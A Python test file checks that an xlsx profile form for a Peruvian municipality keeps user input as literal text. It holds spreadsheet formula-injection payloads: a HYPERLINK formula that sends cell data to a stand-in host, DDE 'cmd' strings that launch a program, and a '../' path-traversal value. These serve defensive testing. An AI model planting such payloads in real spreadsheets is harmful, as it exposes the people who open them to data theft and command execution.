from __future__ import annotations

import dataclasses
import io
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

import openpyxl
import pytest

from bot.domain.files import inspect
from bot.domain.formato import (
    LABELS,
    SHEET_TITLE,
    FormatoData,
    Person,
    ProfileRow,
    build_formato,
    formato_filename,
)
from tests.driver import Driver, MemoryMailer
from tests.walks import file_request

LIMA = timezone(timedelta(hours=-5))
RESPONSIBLE = Person(
    nombres="Ana María",
    apellidos="Pérez <Ruiz> & Cía",
    dni="01234567",
    cargo="Jefa de la Oficina de Tecnologías de la Información",
    email="aperez@munisjl.gob.pe",
    phone="+51 987 654 321",
)
OTHER = Person(
    nombres='=HYPERLINK("http://example.invalid","clic")',
    apellidos="Quispe Mamani",
    dni="00012345",
    cargo="Especialista en presupuesto",
    email="lquispe@munisjl.gob.pe",
    phone="+51 912 345 678",
)
SECTIONS = [
    ("datos_generales", "Datos generales", RESPONSIBLE),
    ("planeamiento", "Planeamiento y organización", RESPONSIBLE),
    ("presupuesto", "Presupuesto", OTHER),
    ("inversiones", "Proyectos de inversión e Infobras", OTHER),
    ("personal", "Personal", RESPONSIBLE),
    ("contrataciones", "Contratación de bienes y servicios", OTHER),
    ("actividades", "Actividades oficiales", RESPONSIBLE),
    ("acceso_informacion", "Acceso a la información", RESPONSIBLE),
    ("visitas", "Registro de visitas", OTHER),
]


def sample(**changes: Any) -> FormatoData:
    data = FormatoData(
        ticket_number="PTE-2026-000123",
        entity_name="Municipalidad Distrital de San Juan de Lurigancho",
        ruc="20131370084",
        responsible=RESPONSIBLE,
        resolution_number="Resolución de Alcaldía N° 012-2026-A/MDSJL",
        resolution_date=date(2026, 3, 5),
        resolution_authority="Alcalde",
        profiles=[ProfileRow(code, name, person) for code, name, person in SECTIONS],
        generated_at=datetime(2026, 3, 9, 10, 30, tzinfo=LIMA),
    )
    return dataclasses.replace(data, **changes)


def load(data: FormatoData) -> Any:
    workbook = openpyxl.load_workbook(io.BytesIO(build_formato(data)))
    assert workbook.sheetnames == [SHEET_TITLE]
    return workbook[SHEET_TITLE]


def rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(v for v in row) for row in sheet.iter_rows(values_only=True)]


def table(sheet: Any) -> list[tuple[Any, ...]]:
    """The profile table: rows after the header that starts with "Sección"."""
    all_rows = rows(sheet)
    start = next(i for i, r in enumerate(all_rows) if r[0] == LABELS["section"])
    return all_rows[start + 1 :]


def find(sheet: Any, label: str) -> Any:
    for row in sheet.iter_rows():
        if row[0].value == label:
            return row[1]
    raise AssertionError(label)


def test_output_is_an_xlsx_by_content() -> None:
    assert inspect(build_formato(sample()), None).kind == "xlsx"


def test_every_section_has_its_row() -> None:
    sheet = load(sample())
    body = table(sheet)
    assert len(body) == len(SECTIONS)
    for (_, section_name, person), row in zip(SECTIONS, body, strict=True):
        assert row == (
            section_name,
            person.nombres,
            person.apellidos,
            person.dni,
            person.cargo,
            person.email,
            person.phone,
        )


def test_table_header_is_bold_and_frozen() -> None:
    sheet = load(sample())
    header = next(r for r in sheet.iter_rows() if r[0].value == LABELS["section"])
    assert [c.value for c in header] == [
        "Sección",
        "Nombres",
        "Apellidos",
        "DNI",
        "Cargo",
        "Correo institucional",
        "Celular",
    ]
    assert all(c.font.bold for c in header)
    assert sheet.freeze_panes == f"A{header[0].row + 1}"


def test_a_profile_change_marks_rows_added_and_removed() -> None:
    profiles = [
        ProfileRow("presupuesto", "Presupuesto", RESPONSIBLE, "baja"),
        ProfileRow("presupuesto", "Presupuesto", OTHER, "alta"),
        ProfileRow("personal", "Personal", RESPONSIBLE),
    ]
    sheet = load(sample(profiles=profiles))
    header = next(r for r in rows(sheet) if r[0] == LABELS["section"])
    assert header[-1] == "Cambio"
    assert [(r[0], r[3], r[-1]) for r in table(sheet)] == [
        ("Presupuesto", "01234567", "dar de baja"),
        ("Presupuesto", "00012345", "dar de alta"),
        ("Personal", "01234567", None),
    ]


def test_dni_and_ruc_stay_text_with_leading_zeros() -> None:
    sheet = load(sample(ruc="20131370084"))
    ruc = find(sheet, LABELS["ruc"])
    assert ruc.value == "20131370084"
    assert ruc.data_type == "s"
    dnis = [row[3] for row in sheet.iter_rows() if row[3].value in {"01234567", "00012345"}]
    assert len(dnis) == 1 + len(SECTIONS)  # responsible block + every section row
    for cell in dnis:
        assert cell.data_type == "s"
        assert cell.number_format == "@"


def test_markup_characters_round_trip_literally() -> None:
    sheet = load(sample())
    assert "Pérez <Ruiz> & Cía" in {row[2] for row in table(sheet)}


def test_formula_looking_text_stays_text() -> None:
    sheet = load(sample())
    cells = [r[1] for r in sheet.iter_rows() if r[1].value == OTHER.nombres]
    assert cells
    assert all(c.data_type == "s" for c in cells)


def test_blocks_carry_entity_responsible_and_resolution() -> None:
    sheet = load(sample())
    assert sheet["A1"].value == LABELS["title"]
    assert find(sheet, LABELS["entity_name"]).value == (
        "Municipalidad Distrital de San Juan de Lurigancho"
    )
    assert find(sheet, LABELS["resolution_number"]).value == (
        "Resolución de Alcaldía N° 012-2026-A/MDSJL"
    )
    assert find(sheet, LABELS["resolution_date"]).value == "05/03/2026"
    assert find(sheet, LABELS["resolution_authority"]).value == "Alcalde"
    values = rows(sheet)
    assert (
        None,
        RESPONSIBLE.nombres,
        RESPONSIBLE.apellidos,
        RESPONSIBLE.dni,
        RESPONSIBLE.cargo,
        RESPONSIBLE.email,
        RESPONSIBLE.phone,
    ) in values
    meta = values[1]
    assert meta[:4] == (
        LABELS["generated_at"],
        "09/03/2026 10:30",
        LABELS["ticket"],
        "PTE-2026-000123",
    )


def test_without_ticket_the_meta_row_has_no_ticket() -> None:
    sheet = load(sample(ticket_number=None))
    assert LABELS["ticket"] not in rows(sheet)[1]


def test_control_characters_are_dropped() -> None:
    person = dataclasses.replace(OTHER, cargo="Jefe\x00 de\x07 área")
    sheet = load(sample(profiles=[ProfileRow("visitas", "Registro de visitas", person)]))
    assert table(sheet)[0][4] == "Jefe de área"


def test_columns_have_widths() -> None:
    sheet = load(sample())
    for letter in "ABCDEFG":
        assert sheet.column_dimensions[letter].width >= 10


def test_output_is_deterministic_apart_from_timestamps() -> None:
    first = zipfile.ZipFile(io.BytesIO(build_formato(sample())))
    second = zipfile.ZipFile(io.BytesIO(build_formato(sample())))
    assert first.namelist() == second.namelist()
    for name in first.namelist():
        if name != "docProps/core.xml":  # holds openpyxl's "modified = now"
            assert first.read(name) == second.read(name), name


def test_created_property_is_the_generation_time() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(build_formato(sample())))
    assert workbook.properties.created == datetime(2026, 3, 9, 15, 30)  # UTC
    assert openpyxl.load_workbook(
        io.BytesIO(build_formato(sample(generated_at=datetime(2026, 3, 9, 15, 30, tzinfo=UTC))))
    ).properties.created == datetime(2026, 3, 9, 15, 30)


@pytest.mark.parametrize(
    ("ticket", "ruc", "expected"),
    [
        ("PTE-2026-000123", "20131370084", "Formato_Perfiles_PTE-2026-000123.xlsx"),
        (None, "20131370084", "Formato_Perfiles_20131370084.xlsx"),
        ("../PTE-2026-000123", "20131370084", "Formato_Perfiles_PTE-2026-000123.xlsx"),
        ("", "20 131/370084", "Formato_Perfiles_20131370084.xlsx"),
        (None, "", "Formato_Perfiles.xlsx"),
    ],
)
def test_filename(ticket: str | None, ruc: str, expected: str) -> None:
    assert formato_filename(ticket, ruc) == expected


# ------------------------------------------------- through the app (issue 16, points 6 and 8)
OWASP = [
    '=HYPERLINK("http://x/?d="&A1,"Abrir")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


async def test_a_filed_request_formato_is_lima_time_and_has_no_formula(
    user: Driver, mailer: MemoryMailer
) -> None:
    entity, _, _, cargo = OWASP
    # Names take only letters and signs of names, but may still start with a "-".
    nombres, apellidos = "-Ana María", "-Pérez Ruiz"
    await file_request(user, mailer, entity, (nombres, apellidos, cargo))  # 15:00 UTC
    async with user.app.store.reading() as conn:
        ((sha,),) = list(
            await conn.execute_fetchall("SELECT sha256 FROM ticket_files WHERE role = 'formato'")
        )
    sheet = openpyxl.load_workbook(io.BytesIO(user.app.files.read(sha)))[SHEET_TITLE]
    assert find(sheet, LABELS["generated_at"]).value == "02/12/2026 10:00"  # Lima, UTC-5
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    typed = {entity, cargo, nombres, apellidos}
    assert typed <= values  # kept literally, as text
    for payload in typed:
        assert all(c.data_type == "s" for c in cells if c.value == payload)


@pytest.mark.parametrize("payload", [*OWASP, "=1+1", "\t=1+1", "\r=1+1"])
def test_every_owasp_payload_stays_a_string(payload: str) -> None:
    workbook = openpyxl.load_workbook(
        io.BytesIO(build_formato(sample(entity_name=payload, ruc=payload)))
    )
    cells = [c for row in workbook[SHEET_TITLE].iter_rows() for c in row if c.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    kept = payload.replace("\r", "\n")  # XML reads a raw carriage return as a line feed
    assert [c.value for c in cells if c.value == kept] == [kept, kept]
